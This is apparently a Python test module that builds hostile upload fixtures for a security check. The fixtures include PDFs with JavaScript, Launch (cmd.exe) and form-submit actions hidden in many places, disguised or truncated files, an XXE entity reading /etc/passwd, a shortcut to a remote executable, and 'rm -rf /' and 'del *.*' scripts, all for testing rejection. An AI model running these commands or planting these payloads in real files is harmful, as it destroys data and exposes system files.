"""Documents that must never be taken: seeds, each with what is to be said of it, and changes of them (security F1)."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from tests.uploads_hostile_office import office
from tests.uploads_hostile_pdf import pdfs
from tests.uploads_hostile_pictures import pictures, texts
from tests.uploads_make import (
    docx,
    jpeg,
    pdf,
    pdf_of_streams,
    png,
    xlsx,
    zipped,
)  # fmt: skip


class Hostile(NamedTuple):
    """A document: what it is, its name, its bytes, the code of the fault (None: any but running out of limits)."""

    what: str
    name: str
    data: bytes
    code: str | None


ACTIONS = {
    "javascript": ("<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "script"),
    "javascript in hexadecimal": ("<< /S /JavaScript /JS <6170702E616C657274> >>", "script"),
    "javascript, escaped": ("<< /S /J#61vaScript /J#53 (app.alert) >>", "script"),
    "launch": ("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", "script"),
    "launch, escaped": ("<< /S /La#75nch /F (cmd.exe) >>", "script"),
    "another file": ("<< /S /GoToR /F (\\\\\\\\server\\\\share) /D [0 /Fit] >>", "outside"),
    "an attached file": ("<< /S /GoToE /T << /R /C /N (a.exe) >> >>", "outside"),
    "a form that is sent": ("<< /S /SubmitForm /F << /FS /URL /F (http://192.0.2.1) >> >>", "outside"),
    "data that is fetched": ("<< /S /ImportData /F (a.fdf) >>", "outside"),
    "a film": ("<< /S /Rendition /OP 0 /R << /S /MR >> >>", "script"),
    "a sound": ("<< /S /Sound /Sound 6 0 R >>", "script"),
}
CARRIERS: dict[str, Callable[[str], bytes]] = {
    "when it is opened": lambda act: pdf(root=f"/OpenAction {act}"),
    "when it is opened, kept elsewhere": lambda act: pdf({6: act}, root="/OpenAction 6 0 R"),
    "when a page is shown": lambda act: pdf(page=f"/AA << /O {act} >>"),
    "a link": lambda act: pdf(
        {6: f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {act} >>"}, page="/Annots [6 0 R]"
    ),
    "by name": lambda act: pdf(root=f"/Names << /JavaScript << /Names [(a) {act}] >> >>"),
    "in a bookmark": lambda act: pdf(
        {6: "<< /Type /Outlines /First 7 0 R /Last 7 0 R >>", 7: f"<< /Title (a) /Parent 6 0 R /A {act} >>"},
        root="/Outlines 6 0 R",
    ),
    "nothing leads to it": lambda act: pdf({6: act}),
    "among packed objects": lambda act: pdf_of_streams({4: act}),
    "in an older version": lambda act: saved_again(pdf({6: act}, root="/OpenAction 6 0 R")),
    "behind a remark": lambda act: pdf({6: f"% (\n{act}\n%)\n"}, root="/OpenAction 6 0 R"),
    "behind brackets in a string": lambda act: pdf({6: f"[(a(b)\\)c) {act}]"}),
}


def saved_again(data: bytes) -> bytes:
    """A PDF with another version of its first object on top."""
    start = len(data)
    new = data + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    table = len(new)
    return new + (
        b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (start, data.rindex(b"xref\n0"), table)
    )


def seeds() -> Iterator[Hostile]:
    """Each a way to be hostile."""
    for what, name, data, code in (*pdfs(), *pictures(), *office(), *texts()):
        yield Hostile(what, name, data, code)


def changed() -> Iterator[Hostile]:
    """Each action at each place of a PDF; each kind under another's name; cut, and with something behind it."""
    for act, (action, code) in ACTIONS.items():
        for where, carrier in CARRIERS.items():
            told = code if where != "when a page is shown" and where != "by name" else None
            yield Hostile(f"{act}: {where}", "a.pdf", carrier(action), told)
    kinds = {"pdf": pdf(), "png": png(), "jpg": jpeg(), "docx": docx(), "xlsx": xlsx()}
    for true, data in kinds.items():
        for claimed in (*kinds, "txt"):
            if claimed != true:
                yield Hostile(f"{true} called {claimed}", f"a.{claimed}", data, None)
        for tenths in (1, 3, 5, 7, 9):
            yield Hostile(
                f"{true} cut at {tenths} tenths", f"a.{true}", data[: len(data) * tenths // 10], None
            )
        yield Hostile(f"{true} without its last byte", f"a.{true}", data.rstrip(b"\r\n")[:-1], None)
        for what, tail in TAILS.items():
            yield Hostile(f"{what} behind a {true}", f"a.{true}", data + tail(), None)
            yield Hostile(f"{what} before a {true}", f"a.{true}", tail() + data, None)
    for what, data in FOREIGN.items():
        for claimed in (*kinds, "txt"):
            yield Hostile(f"{what} called {claimed}", f"a.{claimed}", data, None)


TAILS: dict[str, Callable[[], bytes]] = {
    "a zip": lambda: zipped({"a.exe": b"MZ"}),
    "a program": lambda: b"MZ\x90\0" + bytes(60),
    "a page": lambda: b"<html><script>alert(1)</script></html>",
    "a PDF": pdf,
    "a picture": png,
}
FOREIGN: dict[str, bytes] = {
    "a program of Windows": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(200),
    "a program of Linux": b"\x7fELF\2\1\1" + bytes(200),
    "a page": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "rich text": rb"{\rtf1\ansi{\object\objocx{\*\objdata 0105}}}",
    "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    "a zip": zipped({"a.txt": b"a"}),
    "an animation": b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;",
    "a script": b"#!/bin/sh\nrm -rf /\n",
    "a batch of commands": b"@echo off\r\ndel *.*\r\n",
    "PostScript": b"%!PS-Adobe-3.0\n(a) run\n",
    "a web archive": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<script>1</script>",
    "a shortcut": b"[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\n",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a bitmap": b"BM"
    + struct.pack("<IHHI", 58, 0, 0, 54)
    + struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
    + bytes(4),
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(b"a")[2:-4] + bytes(8),
    "nothing but noughts": bytes(4_000),
}
